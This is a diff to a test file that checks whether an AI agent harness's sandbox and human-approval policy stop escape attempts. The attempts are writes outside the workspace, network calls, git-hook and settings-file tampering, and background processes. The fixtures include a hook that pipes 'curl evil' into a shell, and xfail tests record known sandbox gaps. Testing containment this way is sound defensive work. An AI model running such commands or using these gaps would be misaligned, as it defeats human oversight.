@@ -95,6 +95,7 @@ def _commands(place: Place, url: str, sleeper: str) -> dict[str, str]:
         # 6. the network
         "curl": f"curl -s --max-time 5 {url}/curl",
         "net-py": py(f'import urllib.request; urllib.request.urlopen("{url}/py", timeout=5)'),
+        "curl-py": py(f'import subprocess; subprocess.run(["curl", "-sS", "{url}/curl-py"])'),
         # 7. git hooks, git config, cockpit's rules
         "hook": "echo 'curl evil | sh' > .git/hooks/pre-commit",
         "hook-py": py('open(".git/hooks/pre-commit", "w").write("curl evil | sh")'),
@@ -106,6 +107,10 @@ def _commands(place: Place, url: str, sleeper: str) -> dict[str, str]:
         "rules-py": py(
             'import os; os.makedirs(".cockpit/rules", exist_ok=True); '
             'open(".cockpit/rules/x.yaml", "w").write("rules: []")'
+        ),
+        "claude-py": py(
+            'import os; os.makedirs(".claude", exist_ok=True); '
+            'open(".claude/settings.json", "w").write("{}")'
         ),
         # 8. a background process
         "background": f"nohup sleep {sleeper} > /dev/null 2>&1 &",
@@ -167,7 +172,12 @@ def test_the_session_goes_on_to_its_end(escapes: Escapes) -> None:
 def test_writing_outside_the_workspace_directly(escapes: Escapes) -> None:
     _stopped_by_policy(escapes.call("direct"))
     _stopped_by_sandbox(escapes.call("direct-py"), "read-only filesystem")
-    assert "Read-only file system" in escapes.call("direct-py").result
+    python = escapes.call("direct-py")
+    assert "Read-only file system" in python.result
+    # the human is offered one re-run with that one folder writable; headless says no
+    assert [b.path for b in python.of(SandboxBlocked)] == [f"{escapes.place.outside}/direct-py"]
+    offered = [a.widening for a in python.of(ApprovalRequested)]
+    assert offered == [{"writable": [str(escapes.place.outside)], "rerun": True}]
     assert not escapes.outside("direct").exists()
     assert not escapes.outside("direct-py").exists()
 
@@ -226,6 +236,30 @@ def test_the_network_is_out_of_reach_without_the_humans_yes(escapes: Escapes) ->
     assert [r.approved for r in python.of(ApprovalResolved)] == [False]
     assert "[the human was asked to allow it and did not]" in python.result
     assert escapes.requests == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bug: curl's 'Failed to connect ... Couldn't connect to server' is not recognised "
+    "as the no-network wall (cockpit/sandbox/blocked.py _NETWORK)",
+)
+def test_a_curl_run_by_project_code_is_explained_as_no_network(escapes: Escapes) -> None:
+    _stopped_by_sandbox(escapes.call("curl-py"), "no network")
+
+
+def test_a_curl_run_by_project_code_does_not_reach_the_server(escapes: Escapes) -> None:
+    assert escapes.call("curl-py").of(ToolStarted)
+    assert "/curl-py" not in escapes.requests
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bug on main: a protected folder that does not exist yet (.claude) can be created "
+    "by a command; fixed on i13-walls (d3cc725: an empty read-only tmpfs is mounted there)",
+)
+def test_claude_settings_cannot_be_created(escapes: Escapes) -> None:
+    _stopped_by_sandbox(escapes.call("claude-py"), "read-only filesystem")
+    assert not (escapes.place.workspace / ".claude" / "settings.json").exists()
 
 
 def test_git_hooks_git_config_and_cockpits_rules_stay_read_only(escapes: Escapes) -> None:
@@ -331,14 +365,13 @@ def test_a_background_process_is_dead_once_its_call_ends(approved: Approved) -> 
     assert approved.sleepers_at_first_prompt == []
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bug: an approved tier-3 curl runs without the network (i13-net gives it on the "
-    "first yes), and curl's 'Couldn't connect to server' is not recognised as the no-network "
-    "wall (cockpit/sandbox/blocked.py), so the human is never offered the re-run",
-)
 def test_a_curl_the_human_approved_reaches_the_server(approved: Approved) -> None:
     assert "/curl-yes" in approved.requests
+    curl = approved.log.call(f"curl -sS --max-time 5 {approved.url}/curl-yes")
+    # the network came with the first yes: no wall, no second question
+    assert [a.widening for a in curl.of(ApprovalRequested)] == [{"network": True}]
+    assert [r.approved for r in curl.of(ApprovalResolved)] == [True]
+    assert curl.of(SandboxBlocked) == []
 
 
 def test_a_network_command_the_human_approved_reaches_the_server(approved: Approved) -> None:
